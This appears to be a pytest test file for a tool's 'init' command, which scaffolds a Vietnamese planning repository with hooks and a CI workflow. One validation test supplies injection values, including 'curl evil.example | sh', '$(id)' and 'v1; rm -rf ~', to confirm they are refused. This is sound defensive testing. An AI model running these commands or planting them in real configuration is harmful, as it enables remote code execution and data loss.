"""``kh68 init``: a new plan repository that checks, validates and runs its CI steps."""

from __future__ import annotations

import datetime
import json
import os
import re
import shlex
import shutil
import subprocess
import sys
from pathlib import Path

import jsonschema
import pytest
import yaml

import kh68
from conftest import GIT_ENV, git, invoke, needs_git
from kh68.cli.problem_formats import github
from kh68.core.safetext import excerpt
from kh68.lint.check import check_plan
from kh68.outputs.schema import kind_of
from kh68.repo.scaffold import scaffold_files
from yaml12 import editor_view

ROOT = Path(__file__).resolve().parents[1]
YEAR = datetime.date.today().year

FILES = [
    "README.md",
    ".github/workflows/plan.yml",
    ".pre-commit-config.yaml",
    f"plan/data/{YEAR}.yaml",
    "plan/indicators.yaml",
    "plan/plan.yaml",
    "plan/tasks.yaml",
    "plan/units.yaml",
    "schemas/plan.schema.json",
    "schemas/units.schema.json",
    "schemas/indicators.schema.json",
    "schemas/tasks.schema.json",
    "schemas/data.schema.json",
]


PLACEHOLDERS = [
    ("plan.yaml:7:9", "<Ký hiệu viết tắt của cơ quan ban hành>"),
    ("plan.yaml:9:8", "<Trích yếu của kế hoạch>"),
    ("plan.yaml:12:8", "<Địa danh>"),
    ("plan.yaml:28:9", "<Số mục>"),
    ("plan.yaml:29:11", "<Nguyên văn mục đích của kế hoạch>"),
    ("plan.yaml:37:14", "<Số mục>"),
    ("plan.yaml:39:11", "<Nguyên văn nhiệm vụ báo cáo của các đơn vị>"),
    ("plan.yaml:44:14", "<Số mục>"),
    ("plan.yaml:46:11", "<Nguyên văn nhiệm vụ báo cáo kết quả thực hiện gửi cấp trên>"),
    ("tasks.yaml:4:9", "<Số mục của nhóm>"),
    ("tasks.yaml:5:12", "<Tên nhóm nhiệm vụ>"),
    ("tasks.yaml:7:13", "<Số mục của nhiệm vụ>"),
    ("tasks.yaml:8:16", "<Tên ngắn của nhiệm vụ>"),
    ("tasks.yaml:9:15", "<Nguyên văn nội dung nhiệm vụ>"),
    ("units.yaml:7:11", "<Tên đầy đủ của cơ quan ban hành>"),
    ("units.yaml:16:11", "<Tên cơ quan cấp trên nhận báo cáo>"),
    ("units.yaml:20:11", "<Tên đơn vị thực hiện>"),
]


@needs_git
def test_init_makes_a_plan_repository_that_checks(isolated):
    target = isolated / "kehoach"
    result = invoke(["init", str(target)], 0)
    shown = target.as_posix()
    assert result.output == (
        "".join(f"Đã tạo {shown}/{rel}\n" for rel in FILES)
        + "đã khởi tạo kho git\n"
        + 'đã tạo commit đầu tiên "Kế hoạch mới (kh68 init)" (kh68 diff so sánh với commit này)\n'
        + f"Hook pre-commit chạy kh68 đã cài trên máy (không cần mạng); CI cài kh68=={kh68.__version__}.\n"
        + f"Tiếp theo: kh68 check {shown}/plan; trong {shown}: pre-commit install.\n"
    )
    assert git(target, "rev-parse", "--is-inside-work-tree") == "true"
    # A skeleton that says nothing of any plan: check names each place still to fill, by file and line.
    check = invoke(["check", str(target / "plan")], 0)
    assert (
        check.output
        == "".join(
            f"{shown}/plan/{where}: cảnh báo: chưa điền '{what}': thay bằng nội dung của kế hoạch [placeholder-unfilled]\n"
            for where, what in PLACEHOLDERS
        )
        + f"{shown}/plan: 0 lỗi, {len(PLACEHOLDERS)} cảnh báo.\n"
    )
    invoke(["check", "--strict", str(target / "plan")], 1)
    # kh68 diff works at once: the first commit holds exactly the files init wrote.
    assert git(target, "log", "--format=%s") == "Kế hoạch mới (kh68 init)"
    assert sorted(git(target, "ls-files").splitlines()) == sorted(FILES)
    assert invoke(["diff", "--plan", target / "plan"], 0).output.startswith("Thay đổi kế hoạch: HEAD (")


@needs_git
def test_init_says_how_to_commit_when_git_does_not_know_the_user(isolated, monkeypatch):
    for key in ("GIT_AUTHOR_NAME", "GIT_AUTHOR_EMAIL", "GIT_COMMITTER_NAME", "GIT_COMMITTER_EMAIL"):
        monkeypatch.delenv(key)
    monkeypatch.setenv("HOME", str(isolated))  # no ~/.gitconfig either
    monkeypatch.setenv("EMAIL", "")
    target = isolated / "kehoach"
    out = invoke(["init", str(target)], 0).output
    assert (
        "chưa tạo được commit đầu tiên: git cần biết người commit — chạy "
        'git config --global user.name "Họ tên" và git config --global user.email "email", '
        f'rồi trong {target.as_posix()}: git add . && git commit -m "Kế hoạch mới"; '
        "khi đó kh68 diff mới có bản để so sánh.\n"
    ) in out


def test_scaffolded_files_point_at_their_schemas_and_validate(isolated):
    target = isolated / "kehoach"
    invoke(["init", "--no-git", str(target)], 0)
    assert not (target / ".git").exists()
    for name in (ROOT / "schemas").iterdir():
        assert (target / "schemas" / name.name).read_text(encoding="utf-8") == name.read_text(encoding="utf-8")
    plan_files = sorted(p for p in (target / "plan").rglob("*.yaml") if kind_of(p))
    assert len(plan_files) == 5
    for path in plan_files:
        first = path.read_text(encoding="utf-8").splitlines()[0]
        match = re.fullmatch(r"# yaml-language-server: \$schema=(\S+)", first)
        assert match, path
        schema_path = (path.parent / match[1]).resolve()
        assert schema_path == (target / "schemas" / f"{kind_of(path)}.schema.json").resolve()
        schema = json.loads(schema_path.read_text(encoding="utf-8"))
        errors = [e.message for e in jsonschema.Draft7Validator(schema).iter_errors(editor_view(path))]
        assert errors == [], path


def test_every_field_of_the_scaffold_is_explained(isolated):
    """Each key line of the sample plan carries a Vietnamese comment, or follows one."""
    target = isolated / "kehoach"
    invoke(["init", "--no-git", str(target)], 0)
    for path in sorted((target / "plan").rglob("*.yaml")):
        lines = path.read_text(encoding="utf-8").splitlines()
        assert lines[1].startswith("# "), path
        for number, line in enumerate(lines):
            if re.match(r"^\s*(- )?[a-z_]+:", line) and "#" not in line:
                before = lines[number - 1].strip()
                assert before.startswith("#") or re.match(
                    r"^\s*(- )?(id|text|number|date|issuer|title|start|end):", line
                ), f"{path.name}:{number + 1}: {line}"


def test_refuses_a_non_empty_directory(isolated):
    target = isolated / "kehoach"
    target.mkdir()
    (target / "ghi-chu.txt").write_text("của tôi\n", encoding="utf-8")
    result = invoke(["init", str(target)], 2)
    assert result.output == (
        f"kh68: lỗi: thư mục '{target.as_posix()}' không rỗng; dùng --force để thêm các tệp còn thiếu "
        "(tệp đã có không bị ghi đè)\n"
    )
    assert [p.name for p in target.iterdir()] == ["ghi-chu.txt"]


def test_refuses_a_file(isolated):
    target = isolated / "kehoach"
    target.write_text("x")
    result = invoke(["init", str(target)], 2)
    assert result.output == f"kh68: lỗi: '{target.as_posix()}' là một tệp, không phải thư mục; không ghi gì\n"


@pytest.mark.parametrize("linked", ["plan", "schemas"])
def test_force_never_writes_through_a_symbolic_link_inside(isolated, example_copy, linked):
    """`plan -> ../other-plan` inside the target: the files went into the other folder (data/2026.yaml into
    another plan). Refused, nothing made anywhere."""
    target = isolated / "kehoach"
    target.mkdir()
    (target / "README.md").write_text("# của tôi\n", encoding="utf-8")
    elsewhere = example_copy if linked == "plan" else isolated / "noi-khac"
    elsewhere.mkdir(exist_ok=True)
    (target / linked).symlink_to(elsewhere, target_is_directory=True)
    before = sorted(p.relative_to(isolated) for p in isolated.rglob("*"))
    result = invoke(["init", "--force", "--no-git", str(target)], 2)
    assert result.output == (
        f"kh68: lỗi: {target.as_posix()}/{linked} là liên kết tượng trưng (symlink): kh68 init không ghi qua liên kết "
        "vào nơi khác, không tạo gì; xóa liên kết hoặc chọn thư mục khác\n"
    )
    assert sorted(p.relative_to(isolated) for p in isolated.rglob("*")) == before


def test_force_never_overwrites_an_existing_file(isolated):
    target = isolated / "kehoach"
    (target / "plan").mkdir(parents=True)
    mine = "# README của tôi\n"
    (target / "README.md").write_text(mine, encoding="utf-8")
    (target / "plan" / "units.yaml").write_text(
        "units:\n  - {id: co_quan_ban_hanh, name: Sở của tôi}\n  - {id: co_quan_cap_tren, name: Ủy ban của tôi}\n"
        "  - {id: don_vi_thuc_hien, name: Phòng của tôi}\n",
        encoding="utf-8",
    )
    result = invoke(["init", "--force", "--no-git", str(target)], 0)
    shown = target.as_posix()
    assert f"Giữ nguyên tệp đã có {shown}/README.md\n" in result.output
    assert f"Giữ nguyên tệp đã có {shown}/plan/units.yaml\n" in result.output
    assert f"Đã tạo {shown}/README.md\n" not in result.output
    assert f"Đã tạo {shown}/plan/plan.yaml\n" in result.output
    assert (target / "README.md").read_text(encoding="utf-8") == mine
    assert "Sở của tôi" in (target / "plan" / "units.yaml").read_text(encoding="utf-8")
    plan, problems = check_plan(target / "plan")
    assert plan is not None, problems
    assert plan.units.units["co_quan_ban_hanh"].name == "Sở của tôi"
    again = invoke(["init", "--force", "--no-git", str(target)], 0)
    assert "Đã tạo" not in again.output
    assert again.output.count("Giữ nguyên tệp đã có") == len(FILES)


@needs_git
def test_a_fresh_clone_with_only_git_counts_as_empty(isolated):
    target = isolated / "kehoach"
    target.mkdir()
    git(target, "init", "-q")
    result = invoke(["init", str(target)], 0)
    assert "đã khởi tạo kho git" not in result.output
    assert 'đã tạo commit đầu tiên "Kế hoạch mới (kh68 init)"' in result.output
    assert (target / "plan" / "plan.yaml").is_file()


@needs_git
def test_init_commits_nothing_in_a_repository_that_has_commits(isolated):
    target = isolated / "kehoach"
    target.mkdir()
    git(target, "init", "-q")
    (target / "ghi-chu.txt").write_text("x\n", encoding="utf-8")
    git(target, "add", ".")
    git(target, "commit", "-qm", "đầu tiên")
    result = invoke(["init", "--force", str(target)], 0)
    assert "commit đầu tiên" not in result.output
    assert git(target, "log", "--format=%s") == "đầu tiên"


LOCAL_HOOK = {
    "repos": [
        {
            "repo": "local",
            "hooks": [
                {
                    "id": "kh68-check",
                    "name": "kh68 check (kiểm tra kế hoạch)",
                    "entry": "kh68 check",
                    "args": ["plan"],
                    "language": "system",
                    "files": r"^plan/.*\.ya?ml$",
                    "pass_filenames": False,
                }
            ],
        }
    ]
}


def install_line(files: dict[str, str]) -> str:
    steps = yaml.safe_load(files[".github/workflows/plan.yml"])["jobs"]["check"]["steps"]
    return next(step["run"] for step in steps if step.get("name") == "Cài kh68")


def test_by_default_the_hook_runs_the_installed_kh68_and_ci_installs_this_version() -> None:
    files = scaffold_files(year=2025)
    assert yaml.safe_load(files[".pre-commit-config.yaml"]) == LOCAL_HOOK
    # The hook is the one this repository publishes in .pre-commit-hooks.yaml, run from the installed kh68.
    published = yaml.safe_load((ROOT / ".pre-commit-hooks.yaml").read_text(encoding="utf-8"))[0]
    local = LOCAL_HOOK["repos"][0]["hooks"][0]
    assert {k: v for k, v in published.items() if k not in ("description", "language")} == {
        k: v for k, v in local.items() if k != "language"
    }
    assert shlex.split(install_line(files)) == ["python", "-m", "pip", "install", f"kh68=={kh68.__version__}"]
    assert f'`pipx install "kh68=={kh68.__version__}"`' in files["README.md"]
    assert 'pipx install "kh68==1.2.3"' in scaffold_files(year=2025, version="1.2.3")[".pre-commit-config.yaml"]


def test_no_placeholder_address_in_what_init_writes() -> None:
    for text in scaffold_files(year=2025).values():
        assert "github.com" not in text
        assert "sgddt" not in text
    for path in [*(ROOT / "src").rglob("*.py"), *(ROOT / "templates").rglob("*")]:
        if path.is_file():
            assert "sgddt-lamdong" not in path.read_text(encoding="utf-8"), path


def test_a_pinned_hook_source() -> None:
    sha = "0123456789abcdef0123456789abcdef01234567"
    files = scaffold_files("/srv/kh68", sha, year=2025)
    assert files[".pre-commit-config.yaml"].endswith(
        f"repos:\n  - repo: /srv/kh68\n    rev: {sha}\n    hooks:\n      - id: kh68-check\n"
    )
    # pip needs a URL, and pip before 24 one with a host: a path becomes file://localhost/…
    assert install_line(files) == f'python -m pip install "kh68 @ git+file://localhost/srv/kh68@{sha}"'
    assert "plan/data/2025.yaml" in files
    https = scaffold_files("https://example.org/kh68.git", "v1.2.0", year=2025)
    assert install_line(https) == 'python -m pip install "kh68 @ git+https://example.org/kh68.git@v1.2.0"'
    assert '`pipx install "kh68 @ git+https://example.org/kh68.git@v1.2.0"`' in https["README.md"]
    file_url = scaffold_files("file:///srv/kh68", "1.0", year=2025)
    assert install_line(file_url) == 'python -m pip install "kh68 @ git+file://localhost/srv/kh68@1.0"'
    drive = scaffold_files("C:/kh68", "1.0", year=2025)
    assert install_line(drive) == 'python -m pip install "kh68 @ git+file://localhost/C:/kh68@1.0"'


@pytest.mark.parametrize("rev", ["main", "HEAD", "master", "release/2025", "abc123", "0123", "v1", "latest", "stable"])
def test_a_revision_that_can_move_is_refused(isolated: Path, rev: str) -> None:
    target = isolated / "kehoach"
    result = invoke(["init", str(target), "--hook-repo", "https://example.org/kh68", "--hook-rev", rev], 2)
    assert result.output == (
        f"kh68: lỗi: --hook-rev {excerpt(rev)}: không ghim một phiên bản cố định (tên nhánh như main hay HEAD, "
        "hoặc mã commit rút gọn, đều có thể trỏ sang mã khác) — dùng tag phiên bản, ví dụ "
        f"v{kh68.__version__}, hoặc mã commit đủ 40 ký tự; không tạo gì\n"
    )
    assert not target.exists()


@pytest.mark.parametrize(
    "rev", ["v1.2.0", "1.10", "0.1.0", "v2.0.0rc1", "v1.2.0-1", "1.2.3+local.1", "a" * 40, "0" * 64]
)
def test_a_version_tag_or_a_full_commit_id_is_pinned(rev: str) -> None:
    files = scaffold_files("https://example.org/kh68", rev, year=2025)
    assert yaml.safe_load(files[".pre-commit-config.yaml"])["repos"][0]["rev"] == rev


def test_a_hook_repository_needs_its_revision_and_a_revision_its_repository(isolated: Path) -> None:
    target = isolated / "kehoach"
    assert invoke(["init", str(target), "--hook-repo", "https://example.org/kh68"], 2).output == (
        "kh68: lỗi: --hook-repo cần thêm --hook-rev: phiên bản cố định của kh68 trong kho đó "
        f"(tag, ví dụ v{kh68.__version__}, hoặc mã commit đủ 40 ký tự); không tạo gì\n"
    )
    assert invoke(["init", str(target), "--hook-rev", "v1.2.0"], 2).output == (
        "kh68: lỗi: --hook-rev chỉ dùng cùng --hook-repo (kho git của kh68); không có hai tùy chọn này, "
        f"hook pre-commit chạy kh68 đã cài trên máy và CI cài kh68=={kh68.__version__}; không tạo gì\n"
    )
    assert not target.exists()


def test_init_says_where_a_pinned_hook_gets_kh68(isolated: Path) -> None:
    target = isolated / "kehoach"
    out = invoke(
        ["init", "--no-git", str(target), "--hook-repo", "https://example.org/kh68", "--hook-rev", "v1.2.0"], 0
    )
    assert "Hook pre-commit và CI dùng kh68 @ git+https://example.org/kh68@v1.2.0.\n" in out.output


@pytest.mark.parametrize(
    ("option", "value"),
    [
        ("--hook-repo", "https://example.org/kh68\n  - repo: https://evil.example/hooks"),  # a second hook entry
        ("--hook-repo", 'https://example.org/kh68" && curl evil.example | sh && echo "'),  # out of the pip quotes
        ("--hook-repo", "https://example.org/$(id)"),
        ("--hook-repo", "https://example.org/a b"),  # a split pip line
        ("--hook-repo", "local"),  # pre-commit's own keyword, not a repository
        ("--hook-repo", "kh68"),  # a relative path: resolved against whatever folder pre-commit runs in
        ("--hook-repo", "https://example.org/kh68@v1"),  # pip would read "v1" as the revision
        ("--hook-repo", "https://example.org/kh68#egg=x"),
        ("--hook-repo", "-c core.sshCommand=x"),
        ("--hook-rev", "main\n    hooks: []"),
        ("--hook-rev", "v1; rm -rf ~"),
        ("--hook-rev", "-x"),
        ("--hook-rev", "a..b"),
        ("--hook-rev", "phiên-bản"),
        ("--hook-rev", ""),
    ],
)
def test_hook_source_that_would_not_read_back_is_refused(isolated: Path, option: str, value: str) -> None:
    target = isolated / "kehoach"
    given = {"--hook-repo": "https://example.org/kh68", "--hook-rev": "v1.2.0", option: value}
    result = invoke(["init", str(target), *(f"{key}={value}" for key, value in given.items())], 2)
    shown = excerpt(value)
    if option == "--hook-repo":
        reason = (
            "không phải địa chỉ kho git mà pre-commit và pip dùng được — cần dạng https://…, ssh://…, git://…, "
            "file://… hoặc đường dẫn tuyệt đối, chỉ gồm chữ, số và . _ ~ - : / % + ('@' chỉ ở tên người dùng "
            "trước máy chủ, như ssh://git@github.com/…); không tạo gì"
        )
    else:
        reason = (
            "không phải tên tag hay mã commit của git — chỉ gồm chữ cái không dấu, chữ số và . _ - / +, "
            f"bắt đầu bằng chữ hoặc số, ví dụ v{kh68.__version__}; không tạo gì"
        )
    assert result.output == f"kh68: lỗi: {option} {shown}: {reason}\n"
    assert not target.exists()


@pytest.mark.parametrize(
    ("repo", "rev"),
    [
        ("https://example.org/kh68", "1.10"),  # a float to YAML
        ("ssh://git@example.org/kh68.git", "1.0e+3"),  # a float to YAML 1.1
        ("file:///srv/kh68", "1234567890" * 4),  # a full commit id of digits: an integer to YAML
        ("/srv/kế-hoạch/kh68", "v2025.1+1"),
        ("C:/kh68", "0.1.0"),
    ],
)
def test_hook_source_is_written_by_the_yaml_serializer(repo: str, rev: str) -> None:
    files = scaffold_files(repo, rev, year=2025)
    config = yaml.safe_load(files[".pre-commit-config.yaml"])
    assert config == {"repos": [{"repo": repo, "rev": rev, "hooks": [{"id": "kh68-check"}]}]}
    url = {"file:///srv/kh68": "file://localhost/srv/kh68", "/srv/kế-hoạch/kh68": "file://localhost/srv/kế-hoạch/kh68"}
    url["C:/kh68"] = "file://localhost/C:/kh68"
    requirement = f"kh68 @ git+{url.get(repo, repo)}@{rev}"
    assert shlex.split(install_line(files)) == ["python", "-m", "pip", "install", requirement]
    assert f'`pip install "{requirement}"`' in files["README.md"]


def test_init_writes_a_yaml_sensitive_revision_quoted(isolated: Path) -> None:
    target = isolated / "kehoach"
    invoke(["init", str(target), "--no-git", "--hook-repo", "ssh://git@example.org/kh68.git", "--hook-rev", "1.10"], 0)
    config = (target / ".pre-commit-config.yaml").read_text(encoding="utf-8")
    assert "  - repo: ssh://git@example.org/kh68.git\n" in config
    assert "    rev: '1.10'\n" in config  # unquoted, YAML would read the float 1.1
    workflow = (target / ".github" / "workflows" / "plan.yml").read_text(encoding="utf-8")
    assert '        run: python -m pip install "kh68 @ git+ssh://git@example.org/kh68.git@1.10"\n' in workflow


def test_a_hook_source_holding_a_token_is_written_as_given() -> None:
    files = scaffold_files("/srv/__YEAR__/__KH68_REQUIREMENT__", "1.0", year=2025)
    assert yaml.safe_load(files[".pre-commit-config.yaml"])["repos"][0] == {
        "repo": "/srv/__YEAR__/__KH68_REQUIREMENT__",
        "rev": "1.0",
        "hooks": [{"id": "kh68-check"}],
    }
    assert "git+file://localhost/srv/__YEAR__/__KH68_REQUIREMENT__@1.0" in install_line(files)


# ------------------------------------------------------------ the CI workflow


def workflow_step(root: Path, name: str) -> dict:
    workflow = yaml.safe_load((root / ".github" / "workflows" / "plan.yml").read_text(encoding="utf-8"))
    steps = workflow["jobs"]["check"]["steps"]
    return next(s for s in steps if s.get("name") == name)


def run_step(root: Path, step: dict, github: dict[str, str], extra_env: dict[str, str]) -> subprocess.CompletedProcess:
    """Run a workflow step's shell script as GitHub Actions would (bash, step env, ${{ }} filled in)."""
    env = {**os.environ, **GIT_ENV, **extra_env}
    env["PATH"] = f"{Path(sys.executable).parent}{os.pathsep}{env['PATH']}"
    for key, value in (step.get("env") or {}).items():
        env[key] = re.sub(r"\$\{\{\s*github\.(\w+)\s*\}\}", lambda m: github[m[1]], str(value))
    assert "${{" not in step["run"]
    return subprocess.run(["bash", "-e", "-c", step["run"]], cwd=root, env=env, capture_output=True, text=True)


INDICATOR = """indicators:
  - id: "1"
    name: Tỷ lệ đạt chuẩn
    unit: "%"
    targets:
      "{end}": "60"
    responsible_units: [don_vi_thuc_hien]
"""


@needs_git
def test_the_workflow_steps_check_and_diff_the_plan(isolated):
    target = isolated / "kehoach"
    invoke(["init", str(target)], 0)  # commits the new plan
    git(target, "branch", "-M", "main")
    git(target, "update-ref", "refs/remotes/origin/main", "main")

    check = workflow_step(target, "Kiểm tra kế hoạch")
    ok = run_step(target, check, {}, {})
    assert ok.returncode == 0, ok.stderr  # the places still to fill are warnings on their lines
    assert ok.stdout.splitlines() == [
        f"::warning file=plan/{where.split(':')[0]},line={where.split(':')[1]},col={where.split(':')[2]},"
        f"title=placeholder-unfilled::chưa điền '{what}': thay bằng nội dung của kế hoạch"
        for where, what in PLACEHOLDERS
    ] + [f"plan: 0 lỗi, {len(PLACEHOLDERS)} cảnh báo."]
    status = run_step(target, workflow_step(target, "Tình hình thực hiện"), {}, {})
    assert status.returncode == 0, status.stderr
    assert status.stdout == invoke(["status", "--plan", target / "plan"], 0).output.replace(
        (target / "plan").as_posix(), "plan"
    )

    indicators = target / "plan" / "indicators.yaml"
    indicators.write_text(
        indicators.read_text(encoding="utf-8").replace("indicators: []\n", INDICATOR.format(end=YEAR)),
        encoding="utf-8",
    )
    git(target, "commit", "-qam", "chỉ tiêu")
    git(target, "update-ref", "refs/remotes/origin/main", "main")
    git(target, "checkout", "-q", "-b", "sua-chi-tieu")
    indicators.write_text(indicators.read_text(encoding="utf-8").replace('"60"', '"65"'), encoding="utf-8")
    git(target, "commit", "-qam", "nâng chỉ tiêu")
    summary = isolated / "summary.md"
    diff = workflow_step(target, "Thay đổi so với nhánh gốc")
    assert diff["if"] == "github.event_name == 'pull_request'"
    done = run_step(target, diff, {"base_ref": "main"}, {"GITHUB_STEP_SUMMARY": str(summary)})
    assert done.returncode == 0, done.stderr
    base = git(target, "rev-parse", "--short=7", "main")
    tip = git(target, "rev-parse", "--short=7", "HEAD")
    end = YEAR
    assert summary.read_text(encoding="utf-8") == (
        f"### Thay đổi kế hoạch: gốc chung của origin/main và HEAD ({base}) → HEAD ({tip})\n\n"
        "**Mục tiêu thay đổi**\n\n"
        f'- 1 năm {end}: "60" → "65" (từ 60% trở lên → từ 65% trở lên)\n'
    )

    indicators.write_text(
        indicators.read_text(encoding="utf-8").replace("    unit:", "    unit_typo:"), encoding="utf-8"
    )
    broken = run_step(target, check, {}, {})
    assert broken.returncode == 1
    expected = [github(p) for p in check_plan(Path(target / "plan"))[1]]
    assert expected
    assert all(e.startswith("::error file=") for e in expected)
    assert broken.stdout.splitlines()[:-1] == [
        e.replace(f"file={(target / 'plan').as_posix()}", "file=plan") for e in expected
    ]
    line = indicators.read_text(encoding="utf-8").splitlines().index('    unit_typo: "%"') + 1
    assert f"::error file=plan/indicators.yaml,line={line},col=5,title=key-unknown::" in broken.stdout


# ---------------------------------------------------------------- odd targets: checked whole before anything is written


def _listing(root):
    return sorted(p.relative_to(root).as_posix() for p in root.rglob("*"))


@pytest.mark.parametrize("where", ["plan", "plan/data", "plan/data/..", "plan/data/moi"])
def test_refuses_a_plan_directory_or_a_folder_inside_one_even_with_force(isolated, example_copy, where):
    before = _listing(isolated)
    target = isolated / where
    result = invoke(["init", "--no-git", "--force", target], 2)
    assert result.output == (
        f"kh68: lỗi: không tạo kho kế hoạch trong {target.as_posix()}: {example_copy.resolve().as_posix()} "
        "là một thư mục kế hoạch (có plan.yaml); kho mới chứa thư mục plan/ của nó — "
        "chọn một thư mục ở ngoài, không tạo gì\n"
    )
    assert _listing(isolated) == before


def test_the_parent_of_a_plan_with_force_only_adds_what_is_missing(isolated, example_copy):
    before = {p: p.read_bytes() for p in example_copy.rglob("*") if p.is_file()}
    invoke(["init", "--no-git", "--force", isolated], 0)
    assert {p: p.read_bytes() for p in before} == before


def test_a_path_through_a_file_creates_nothing(isolated):
    (isolated / "tep").write_text("x")
    result = invoke(["init", "--no-git", isolated / "tep" / "kho"], 1)
    assert result.output == (
        f"kh68: lỗi: không dùng được thư mục {(isolated / 'tep' / 'kho').as_posix()}: "
        f"{(isolated / 'tep').as_posix()} là một tệp, không phải thư mục; không ghi gì\n"
    )
    assert _listing(isolated) == ["tep"]


@pytest.mark.skipif(os.name != "posix", reason="FIFOs and symlinks as on POSIX")
@pytest.mark.parametrize("kind", ["fifo", "dangling"])
def test_an_odd_file_deep_in_the_target_is_found_before_anything_is_written(isolated, kind):
    target = isolated / "kho"
    (target / "plan").mkdir(parents=True)
    odd = target / "plan" / "units.yaml"
    os.mkfifo(odd) if kind == "fifo" else odd.symlink_to("/khong-co/units.yaml")
    result = invoke(["init", "--no-git", "--force", target], 1)
    reason = {
        "fifo": "đường dẫn là một ống dẫn (FIFO), không phải tệp thông thường",
        "dangling": f"{odd.as_posix()} là liên kết tượng trưng (symlink) trỏ tới nơi không có (/khong-co/units.yaml)",
    }[kind]
    assert result.output == f"kh68: lỗi: không ghi được {odd.as_posix()}: {reason}; không ghi gì\n"
    assert _listing(isolated) == ["kho", "kho/plan", "kho/plan/units.yaml"]


def test_a_stop_while_writing_leaves_no_half_made_directory(isolated, monkeypatch):
    import kh68.repo.scaffold as scaffold

    real_mkdirs = scaffold._mkdirs
    calls = []

    def stopped_midway(directory, made):
        real_mkdirs(directory, made)
        calls.append(directory)
        if len(calls) == 4:  # a few folders and files are written by then
            raise KeyboardInterrupt

    monkeypatch.setattr(scaffold, "_mkdirs", stopped_midway)
    result = invoke(["init", "--no-git", isolated / "a" / "kho"], 130)
    assert result.output == "kh68: lỗi: đã dừng theo yêu cầu\n"
    assert _listing(isolated) == []


# ---------------------------------------------------------------- --from: the next plan starts from this one

HUE = Path(__file__).parent / "fixtures" / "plans" / "hue-188"


def test_init_from_an_existing_plan_copies_its_structure_without_its_data(isolated: Path) -> None:
    target = isolated / "ke-hoach-moi"
    result = invoke(["init", "--no-git", "--from", HUE, str(target)], 0)
    assert (
        f"Kế hoạch mới chép từ {HUE.as_posix()} (không có số liệu): sửa số, ngày, trích yếu, thời kỳ, nhiệm vụ và "
        "chỉ tiêu theo văn bản mới.\n"
    ) in result.output
    plan = target / "plan"
    assert sorted(p.name for p in plan.iterdir()) == ["indicators.yaml", "plan.yaml", "tasks.yaml", "units.yaml"]
    for name in ("units.yaml", "indicators.yaml", "tasks.yaml"):
        old, new = (HUE / name).read_text(encoding="utf-8"), (plan / name).read_text(encoding="utf-8")
        kind = name.removesuffix(".yaml")
        assert new.splitlines()[0] == f"# yaml-language-server: $schema=../schemas/{kind}.schema.json"
        assert new.splitlines()[1:] == old.splitlines()[1:]
    meta = (plan / "plan.yaml").read_text(encoding="utf-8").splitlines()
    assert 'number: "188"' not in meta
    assert "number: null   # kế hoạch mới: số văn bản khi ban hành" in meta
    assert "date: null     # kế hoạch mới: ngày ban hành" in meta
    assert f"year: {YEAR}       # kế hoạch mới: năm ban hành" in meta
    assert "issuing_unit: ubnd_tp_hue" in meta
    out = invoke(["check", plan], 0).output
    assert out == f"{plan.as_posix()}: không có lỗi — 5 chỉ tiêu, 48 nhiệm vụ, 25 đơn vị, số liệu 0 năm.\n"


def test_init_from_a_plan_with_errors_writes_nothing(isolated: Path) -> None:
    source = Path(shutil.copytree(HUE, isolated / "cu"))
    (source / "units.yaml").write_text("units: []\n", encoding="utf-8")
    target = isolated / "moi"
    result = invoke(["init", "--no-git", "--from", source, str(target)], 2)
    assert result.output.startswith(f"kh68: lỗi: --from {source.as_posix()}: kế hoạch nguồn có ")
    assert result.output.endswith(f" lỗi; chạy kh68 check {source.as_posix()} rồi sửa trước, không tạo gì\n")
    assert not target.exists()


def test_init_from_a_folder_that_is_no_plan(isolated: Path) -> None:
    target = isolated / "moi"
    result = invoke(["init", "--no-git", "--from", isolated / "khong-co", str(target)], 2)
    assert result.output == f"kh68: lỗi: --from: không có thư mục kế hoạch '{(isolated / 'khong-co').as_posix()}'\n"
    assert not target.exists()
